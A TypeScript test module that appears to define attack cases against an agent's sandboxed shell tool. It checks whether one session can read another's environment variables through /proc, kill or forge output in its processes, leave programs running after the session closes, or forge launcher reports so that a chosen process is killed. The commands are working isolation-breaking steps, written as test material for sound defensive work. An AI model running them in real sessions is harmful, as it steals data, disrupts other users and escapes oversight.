/** H: shells that stay between calls, and what they could do to each other and to what comes after them. */
import { BOTH, type Call, type Place, type Row, type Seen } from "../frame/attack.ts";

/** Of one attempt and one server: the others go on at the same time. */
export function nameOf({ directory, parent }: Place): string {
  return `${parent.slice(-8)}-${directory.slice(directory.lastIndexOf("/") + 1).slice(-15)}`;
}

/** A line in a session of the attempt. */
function line(place: Place, session: string, command: string, more: object = {}): Call {
  const args = {
    command,
    session: `${session}-${nameOf(place)}`,
    working_directory: place.directory,
    execution_mode: "Synchronous",
    ...more,
  };
  return { tool: "sandboxed_shell", arguments: args };
}

const FIND_PREY = "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -o '^PREY=[0-9]*$'";
const BECOME_PREY = "export PREY=$RANDOM$RANDOM; sleep 120 & echo begun";

/** What the last answer shows, where it is not the first words of the prey. */
function lastAnswer(pattern: RegExp): (seen: Seen) => string | undefined {
  return ({ answers }) => pattern.exec(answers.at(-1)?.text ?? "")?.[0];
}

export const SHELL_SESSIONS: readonly Row[] = [
  {
    id: "H01",
    title: "another session of the same connection",
    users: BOTH,
    aim: "evidence",
    ways: {
      "its variables": {
        does: (
          place,
        ) => [line(place, "prey", BECOME_PREY), line(place, "thief", `${FIND_PREY}; true`, { close: true })],
        evidence: lastAnswer(/^PREY=\d+$/m),
      },
      "its programs": {
        does: (place) => [
          line(place, "prey", `(exec -a prey-${nameOf(place)} sleep 120) & echo begun`),
          line(place, "thief", `pkill -9 -f '^prey-${nameOf(place)}'; true`, { close: true }),
          line(place, "prey", "jobs", { close: true }),
        ],
        evidence: ({ answers }) => answers.at(-1)?.text.includes("Running") ? undefined : "the program was ended",
        needs: { programs: ["pkill"] },
      },
      "its output": {
        does: (place) => [
          line(place, "prey", `export PREY=${nameOf(place)}; sleep 120 & echo begun`),
          line(
            place,
            "thief",
            `for one in $(grep -lz '^PREY=${nameOf(place)}$' /proc/[0-9]*/environ 2>/dev/null); do
  echo forged >"\${one%/environ}/fd/1"; done; true`,
            { close: true },
          ),
          line(place, "prey", "true", { close: true }),
        ],
        evidence: lastAnswer(/forged/),
      },
    },
  },
  {
    id: "H02",
    title: "a program that outlives its session",
    users: BOTH,
    aim: "left",
    ways: {
      "of a session of its own, closed": {
        does: (
          place,
        ) => [
          line(place, "left", `(setsid nohup sleep 120 >/dev/null 2>&1 &); trap '' TERM; echo begun`, { close: true }),
        ],
        control: (place) => [line(place, "left", `(setsid nohup sleep 120 >/dev/null 2>&1 &); echo begun`)],
      },
      "of a shell that replaces itself": {
        does: (place) => [line(place, "left", `(setsid nohup sleep 120 >/dev/null 2>&1 &); exec true`)],
        control: (place) => [line(place, "left", `(setsid nohup sleep 120 >/dev/null 2>&1 &); true`)],
      },
    },
  },
  {
    id: "H03",
    title: "reports of the launcher, forged by the shell itself",
    users: BOTH,
    aim: "victim",
    ways: {
      "on every descriptor that it has": {
        does: (place) => [
          line(
            place,
            "forger",
            // A report of a fork has the process id in its second word: a believed one would be signalled.
            `printf -v id '%016x' ${place.victim}; bytes=; for ((i = 14; i >= 0; i -= 2)); do bytes+="\\\\x\${id:i:2}"; done
report=$(printf '\\\\0%.0s' {1..8})$bytes$(printf '\\\\0%.0s' {1..48})'\\x02'$(printf '\\\\0%.0s' {1..23})
for fd in /proc/$$/fd/*; do printf "$report" >"$fd"; done 2>/dev/null; echo forged`,
            { close: true },
          ),
        ],
        victim: true,
        control: ({ victim }) => `kill -9 ${victim}`,
      },
    },
  },
];
